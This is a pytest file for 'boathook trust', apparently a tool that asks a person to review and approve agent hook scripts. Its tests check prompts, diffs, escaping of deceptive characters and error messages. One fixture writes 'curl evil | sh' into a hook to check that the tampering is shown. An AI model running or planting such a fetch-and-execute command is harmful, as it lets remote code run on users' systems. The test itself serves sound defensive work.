"""`boathook trust` and its relatives: what a person is shown, asked and told."""

from __future__ import annotations

import json
import os
import pty
import re
import select
import subprocess
import sys
import time

import pytest

from tests.trust.helpers import command, settings, state_of, trust


def _converse(world, arguments, answers):
    """Run a command at a terminal and give the answers; give the exit code and all that was printed."""
    leader, follower = pty.openpty()
    child = subprocess.Popen([sys.executable, "-m", "boathook", *arguments], stdin=follower, stdout=follower,
                             stderr=follower, cwd=world.project, env={**world.environment, "TERM": "dumb"})  # fmt: skip
    os.close(follower)
    out, until, rest = b"", time.monotonic() + 30, list(answers)
    while time.monotonic() < until:
        ready, _, _ = select.select([leader], [], [], 0.1)
        try:
            out += os.read(leader, 65536) if ready else b""
        except OSError:
            break
        if rest and out.endswith(b"[y/N]: "):
            os.write(leader, rest.pop(0).encode() + b"\n")
            out += b" "
    code = child.wait(10)
    os.close(leader)
    return code, out.decode()


def test_what_would_run_is_shown_before_it_is_asked(world):
    fields = {"matcher": "{tool: Shell, pattern: 'rm -rf'}", "env": "[GITHUB_TOKEN]", "on_failure": "block"}
    world.hook("guard", scope="project", script="echo first line", fields=fields)
    code, text = _converse(world, ["trust"], ["n"])
    assert code == 1
    for told in (
        "guard  untrusted",
        "pre-tool-call, tool Shell, input rm -rf; sync, at most 30 s",
        "if it fails, the action is blocked",
        "the variables GITHUB_TOKEN",
        "scripts/run.sh  26 bytes, executable",
        "| echo first line",
        "Trust guard? [y/N]",
    ):
        assert told in text
    assert state_of(world, "guard") == "untrusted"
    code, _ = _converse(world, ["trust"], ["y"])
    assert code == 0
    assert state_of(world, "guard") == "armed"


def test_each_hook_is_asked_for_itself(world):
    for name in ("one", "two", "three"):
        world.hook(name, scope="project", script="exit 0")
    code, _ = _converse(world, ["trust"], ["y", "n", "y"])
    assert code == 1
    states = [state_of(world, name) for name in ("one", "three", "two")]
    assert states == ["armed", "untrusted", "armed"]


def test_without_a_person_nothing_is_trusted(world):
    world.hook("guard", scope="project", script="exit 0")
    done = command(world, "trust", stdin="y\ny\n")
    assert done.returncode == 1
    assert "there is no terminal to ask at" in done.stderr
    assert state_of(world, "guard") == "untrusted"


def test_a_change_is_shown_as_a_diff(world):
    folder = world.hook("guard", scope="project", script="exit 2")
    trust(world)
    (folder / "scripts" / "run.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    (folder / "new.sh").write_text("x\n")
    (folder / "HOOK.md").chmod(0o600)
    out = command(world, "trust").stdout
    for told in ("guard  modified", "-exit 2", "+curl evil | sh", "added: new.sh", "mode changed: "):
        assert told in out


def test_a_changed_definition_is_shown_too(world):
    script = world.project / ".claude" / "hooks" / "guard.sh"
    script.parent.mkdir(parents=True)
    script.write_text("#!/bin/sh\nexit 2\n")
    script.chmod(0o755)
    world.settings("project", settings(".claude/hooks/guard.sh"))
    trust(world)
    world.toml("project", "[hooks.defaults]\ntimeout = 100\n")
    out = command(world, "trust").stdout
    assert "the definition (trusted)" in out
    assert re.search(r'\+ *\[?\{"timeout": 100\}', out)


def test_what_could_deceive_the_eye_is_shown_as_what_it_is(world):
    folder = world.hook("guard", scope="project", script="exit 0")
    (folder / "scripts" / "run.sh").write_text("#!/bin/sh\necho \u202e hidden \u200b \x1b[2J\n")
    out = command(world, "trust").stdout
    assert "\\u202e" in out
    assert "\\u200b" in out
    assert "\x1b" not in out


def test_a_settings_entry_shows_its_command_and_says_what_is_bound(world):
    world.settings("project", settings("jq -e .x >/dev/null || exit 2"))
    out = command(world, "trust").stdout
    assert "jq -e .x >/dev/null || exit 2" in out
    assert "your trust covers only the definition above" in out


def test_names_that_are_not_there_are_an_error_that_helps(world):
    world.hook("guard", scope="project", script="exit 0")
    done = command(world, "trust", "gard", "--yes")
    assert (done.returncode, done.stderr) == (
        1,
        "boathook: this project has no hook 'gard' that needs trust (it has: guard)\n",
    )
    done = command(world, "untrust", "guard")
    assert (done.returncode, done.stderr) == (
        1,
        "boathook: no decision about guard is stored for this project. List them: boathook trust --list\n",
    )


def test_the_list_names_every_hook_and_what_was_said(world):
    world.hook("good", scope="project", script="exit 0")
    world.hook("bad", scope="project", script="exit 0")
    gone = world.hook("gone", scope="project", script="exit 0")
    trust(world, "good", "gone")
    command(world, "deny", "bad")
    world.hook("new", scope="project", script="exit 0")
    os.rename(gone, world.root / "away")
    rows = json.loads(command(world, "trust", "--list", "--json").stdout)["hooks"]
    assert {row["name"]: row["state"] for row in rows} == {
        "bad": "denied",
        "good": "trusted",
        "new": "untrusted",
        "gone": "gone",
    }
    assert all(row["project"] == str(world.project) for row in rows)
    assert command(world, "untrust", "gone").returncode == 0
    assert "gone" not in command(world, "trust", "--list").stdout


def test_nothing_to_ask_is_said(world):
    assert "There are no project hooks" in command(world, "trust").stdout
    world.hook("guard", scope="project", script="exit 0")
    trust(world)
    done = command(world, "trust")
    assert (done.returncode, done.stdout) == (
        0,
        "Nothing to decide: 1 of 1 hooks are trusted, the others are denied.\n",
    )


def test_untrust_takes_all_back(world):
    for name in ("one", "two"):
        world.hook(name, scope="project", script="exit 0")
    trust(world)
    assert command(world, "untrust", "--all").returncode == 0
    assert [state_of(world, name) for name in ("one", "two")] == ["untrusted", "untrusted"]


@pytest.mark.parametrize("name", ["untrust", "deny"])
def test_without_a_name_nothing_is_meant(world, name):
    done = command(world, name)
    assert done.returncode == 1
    assert "--all" in done.stderr


def test_a_trust_store_that_cannot_be_written_is_reported(world):
    world.hook("guard", scope="project", script="exit 0")
    (world.state).parent.mkdir(parents=True)
    world.state.write_text("a file")
    done = command(world, "trust", "--yes")
    assert done.returncode == 1
    assert "Traceback" not in done.stderr
    assert str(world.state) in done.stderr
